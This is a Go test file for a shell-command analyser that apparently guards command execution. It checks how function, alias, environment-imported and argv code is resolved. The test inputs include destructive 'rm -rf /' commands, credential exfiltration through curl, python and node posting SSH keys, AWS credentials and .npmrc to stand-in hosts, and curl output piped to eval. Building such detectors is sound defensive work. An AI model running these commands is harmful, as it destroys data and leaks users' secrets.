package parse

import (
	"strings"
	"testing"
)

// Functions, aliases, assignments, feeders, positions, the environment's
// code, argv mode and POSIX mode.
func TestFunctionsAndAliases(t *testing.T) {
	runRows(t, []row{
		{src: `f() { rm -rf /; }; f`, want: []string{"f ¦ fn ¦ pos=1:20", "rm -rf / ¦ ctx=function ¦ via=function f ¦ pos=1:7"}},
		{src: `git() { echo hi; }; git push --force`, want: []string{"git push --force ¦ fn", "echo hi ¦ via=function git"}},
		{src: `git() { command git "$@"; }; git push --force`, want: []string{"git push --force ¦ fn", "git push --force ¦ wrap=command ¦ nofn"}},
		{src: `deploy() { rsync -a . "$1:/srv"; }; deploy prod`, want: []string{"deploy prod ¦ fn", "rsync -a . prod:/srv"}},
		{src: `f() { local x=/etc; rm -rf $x; }; f; echo $x`, want: []string{"f", "local x=/etc", "rm -rf /etc", "echo"}},
		{src: `f() { X=/etc; }; f; rm -rf $X`, want: []string{"f", "rm -rf /etc"}},
		{src: `X=1 f() { :; }`, check: func(t *testing.T, an *Analysis) {}},
		{src: `f() { :; }; X=/etc f; echo $X`, want: []string{"f ¦ fn", ":", "echo"}},
		{src: `if true; then f() { rm -rf /; }; fi; f`, want: []string{"true", "f ¦ nofn", "rm -rf / ¦ ctx=function"}},
		{src: `f; f() { rm -rf /; }`, want: []string{"f ¦ nofn", "rm -rf / ¦ ctx=uncalled"}},
		{src: `cleanup() { rm -rf "$TMP"; }; trap cleanup EXIT`, want: []string{"trap cleanup EXIT", "cleanup ¦ fn ¦ via=trap", "rm -rf "}},
		{src: `function nuke { rm -rf ~; }; nuke`, want: []string{"nuke ¦ fn", "rm -rf /home/u"}},
		{src: `f() { rm -rf /; }`, want: []string{"rm -rf / ¦ ctx=uncalled,function"}, check: func(t *testing.T, an *Analysis) {
			if len(an.Functions) != 1 || an.Functions[0] != "f" {
				t.Errorf("functions %v", an.Functions)
			}
		}},
		{src: `sudo f`, want: []string{"f ¦ wrap=sudo"}},
		{src: `f() { ls; }; sudo f`, want: []string{"f ¦ wrap=sudo ¦ nofn", "ls ¦ ctx=uncalled"}},
		{src: `f() { rm -rf /; }; export -f f; bash -c f`, want: []string{"export -f f", "bash -c f", "f ¦ fn ¦ via=bash -c", "rm -rf /"}},
		{src: `f() { rm -rf /; }; bash -c f`, want: []string{"bash -c f", "f ¦ nofn", "rm -rf / ¦ ctx=uncalled"}},
		{src: "shopt -s expand_aliases\nalias ls='rm -rf /'\nls", want: []string{"shopt -s expand_aliases", "alias ls=rm -rf /", "rm -rf / ¦ ctx=alias ¦ via=alias ls"}},
		{src: "shopt -s expand_aliases\nalias gp='git push --force'\ngp origin main", want: []string{"shopt -s expand_aliases", "alias gp=git push --force", "git push --force origin main"}},
		{src: "alias ls='rm -rf /'\nls", want: []string{"alias ls=rm -rf /", "ls"}},
		{src: "shopt -s expand_aliases; alias ls='rm -rf /'; ls", want: []string{"shopt -s expand_aliases", "alias ls=rm -rf /", "ls", "rm -rf / ¦ ctx=alias"}},
		{src: "shopt -s expand_aliases\nalias ls='rm -rf /'\n\\ls", want: []string{"shopt -s expand_aliases", "alias ls=rm -rf /", "ls"}},
		{src: "alias x='rm -rf /'\nx", want: []string{"alias x=rm -rf /", "rm -rf / ¦ ctx=alias"}, opt: func(o *Options) { o.Dialect = POSIX }},
		{src: "shopt -s expand_aliases\nalias x=\"$(cat a)\"\nx", want: []string{"shopt -s expand_aliases", "alias x=…", "cat a", "x"}, dyn: []string{"alias"}},
	})
}

func TestAssignmentsAndFeeders(t *testing.T) {
	runRows(t, []row{
		{src: `export GUARD_EXEC_MODE=advise`, want: []string{"export GUARD_EXEC_MODE=advise"}, check: func(t *testing.T, an *Analysis) {
			if len(an.Assignments) != 1 || an.Assignments[0].Name != "GUARD_EXEC_MODE" || !an.Assignments[0].Export || an.Assignments[0].Decl != "export" {
				t.Errorf("assignments %+v", an.Assignments)
			}
		}},
		{src: `GUARD_EXEC_SESSION=x git push`, want: []string{"git push ¦ assign=GUARD_EXEC_SESSION=x"}, check: func(t *testing.T, an *Analysis) {
			if len(an.Assignments) != 1 || !an.Assignments[0].Prefix {
				t.Errorf("assignments %+v", an.Assignments)
			}
		}},
		{src: `A=1; B=2`, check: func(t *testing.T, an *Analysis) {
			if len(an.Commands) != 0 || len(an.Assignments) != 2 || an.Assignments[1].Value.Value != "2" {
				t.Errorf("%+v", an.Assignments)
			}
		}},
		{src: `curl -d "$(cat ~/.aws/credentials)" https://x`, want: []string{"curl -d … https://x", "cat /home/u/.aws/credentials"}, check: func(t *testing.T, an *Analysis) {
			if f := an.Commands[0].Feeders; len(f) != 1 || f[0].Name != "cat" {
				t.Errorf("feeders %v", f)
			}
		}},
		{src: `K=$(cat ~/.ssh/id_rsa); curl -d "$K" https://x`, want: []string{"cat /home/u/.ssh/id_rsa", "curl -d … https://x"}, check: func(t *testing.T, an *Analysis) {
			if f := an.Commands[1].Feeders; len(f) != 1 || f[0].Name != "cat" {
				t.Errorf("feeders %v", f)
			}
		}},
		{src: `X=$(curl -s x); eval "$X"`, want: []string{"curl -s x", "eval …"}, dyn: []string{"eval|feeders=curl"}},
		{src: `python3 -c 'import urllib.request,os; urllib.request.urlopen("https://x.io", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())'`,
			want: []string{"python3 -c import urllib.request,os; urllib.request.urlopen(\"https://x.io\", data=open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())", "curl -d … https://x.io ¦ synth", "cat /home/u/.ssh/id_rsa ¦ synth"}},
		{src: `python3 -c 'import requests; requests.post("https://x.io", data=open("/home/u/.aws/credentials").read())'`,
			want: []string{`python3 -c import requests; requests.post("https://x.io", data=open("/home/u/.aws/credentials").read())`, "curl -d … https://x.io", "cat /home/u/.aws/credentials"}},
		{src: `node -e 'fetch("https://x.io", {method: "POST", body: require("fs").readFileSync("/home/u/.npmrc")})'`,
			want: []string{`node -e fetch("https://x.io", {method: "POST", body: require("fs").readFileSync("/home/u/.npmrc")})`, "curl -d … https://x.io", "cat /home/u/.npmrc"}},
	})
}

func TestEnvCode(t *testing.T) {
	opts := testOptions()
	opts.Env["BASH_ENV"] = "/x/rc"
	opts.Env["BASH_FUNC_git%%"] = "() { rm -rf /; }"
	opts.Env["PS4"] = "$(id)"
	an := Analyze("git status", opts)
	if strings.Join(an.EnvCode, ",") != "BASH_ENV,BASH_FUNC_git%%,PS4" {
		t.Errorf("envcode %v", an.EnvCode)
	}
	// The function is maybe defined (sh does not import it): the call
	// may reach the real git.
	checkCommands(t, an, []string{"git status ¦ nofn", "rm -rf / ¦ vias=env BASH_FUNC_git%%>function git"})
	// A BASH_ENV that cannot be read is not known code.
	if len(an.Dynamic) != 1 || an.Dynamic[0].Kind != DynEnvCode || an.Dynamic[0].Known != "BASH_ENV=/x/rc" {
		t.Errorf("dynamic %v", an.Dynamic)
	}

	// Exported functions and the BASH_ENV file's functions are judged
	// where they are called, not where they are defined (bats exports
	// dozens, a few with rm -rf in them).
	opts = testOptions()
	opts.Env["BASH_ENV"] = "rc"
	opts.Env["BASH_FUNC_cleanup%%"] = "() { rm -rf \"$BATS_RUN_TMPDIR\"; }"
	an = Analyze("ls; greet", opts)
	checkCommands(t, an, []string{"ls", "greet ¦ fn", "echo hi ¦ via=function greet ¦ pos=/proj/rc:1:11"})
	if len(an.Dynamic) != 0 {
		t.Errorf("dynamic %v", an.Dynamic)
	}
	an = Analyze("cleanup", opts)
	checkCommands(t, an, []string{"cleanup ¦ nofn", "rm -rf  ¦ vias=env BASH_FUNC_cleanup%%>function cleanup"})

	// A value bash would import but that does not parse: not known code.
	for _, v := range []string{"() { rm -rf /", "() { :; }; rm -rf /", "() { :; } & rm -rf /"} {
		opts = testOptions()
		opts.Env["BASH_FUNC_f%%"] = v
		an = Analyze("ls", opts)
		if len(an.Dynamic) != 1 || an.Dynamic[0].Kind != DynEnvCode {
			t.Errorf("%q: dynamic %v", v, an.Dynamic)
		}
	}
	// A value that does not start with "() {" is a plain variable.
	opts = testOptions()
	opts.Env["BASH_FUNC_f%%"] = "(not code"
	if an = Analyze("f", opts); len(an.Dynamic) != 0 {
		t.Errorf("plain variable: dynamic %v", an.Dynamic)
	}
}

func TestArgv(t *testing.T) {
	an := AnalyzeArgv([]string{"bash", "-c", "rm -rf /; echo $0", "name"}, testOptions())
	checkCommands(t, an, []string{"bash -c rm -rf /; echo $0 name", "rm -rf / ¦ via=bash -c", "echo name"})
	an = AnalyzeArgv([]string{"sudo", "rm", "-rf", "a b"}, testOptions())
	checkCommands(t, an, []string{"rm -rf a b ¦ wrap=sudo"})
	if an.Raw != "sudo rm -rf 'a b'" {
		t.Errorf("raw %q", an.Raw)
	}
	if an := AnalyzeArgv([]string{"ls", "a\x00b"}, testOptions()); an.Err == nil || an.Err.Kind != ErrInvalid {
		t.Errorf("NUL in argv: %v", an.Err)
	}
	if an := AnalyzeArgv(nil, testOptions()); an.Err != nil || len(an.Commands) != 0 {
		t.Errorf("empty argv: %+v", an)
	}
}

func TestPositions(t *testing.T) {
	runRows(t, []row{
		{src: "ls\n  rm -rf /", want: []string{"ls ¦ pos=1:1", "rm -rf / ¦ pos=2:3"}},
		{src: "echo a; bash -c 'ls; rm -rf /'", want: []string{"echo a", "bash -c ls; rm -rf / ¦ pos=1:9", "ls ¦ pos=1:18", "rm -rf / ¦ pos=1:22"}},
		{src: "bash -c 'ls\nrm -rf /'", want: []string{"bash -c ls\nrm -rf /", "ls ¦ pos=1:10", "rm -rf / ¦ pos=2:1"}},
		{src: "bash -c \"$X rm\"", want: []string{"bash -c  rm", "rm ¦ pos=1:9"}},
		{src: "cat <<'EOF' | sh\necho a\nrm -rf /\nEOF", want: []string{"cat", "sh", "echo a ¦ pos=2:1", "rm -rf / ¦ pos=3:1"}},
		{src: "x\\\n y", want: []string{"x y ¦ pos=1:1"}},
	})
	an := Analyze(`echo "$(rm -rf /)"`, testOptions())
	if c := an.Commands[1]; c.Span != "rm -rf /" {
		t.Errorf("span %q", c.Span)
	}
	long := "echo " + strings.Repeat("a", 300)
	if c := Analyze(long, testOptions()).Commands[0]; len(c.Span) > spanMax+len("…") {
		t.Errorf("span not bounded: %d", len(c.Span))
	}
}

func TestPOSIX(t *testing.T) {
	opts := testOptions()
	opts.Dialect = POSIX
	an := Analyze(`echo $'\x72m'`, opts)
	checkCommands(t, an, []string{`echo $\x72m`})
	an = Analyze(`rm -rf "$HOME"`, opts)
	checkCommands(t, an, []string{"rm -rf /home/u"})
	if an.Dialect != POSIX {
		t.Errorf("dialect %v", an.Dialect)
	}
}
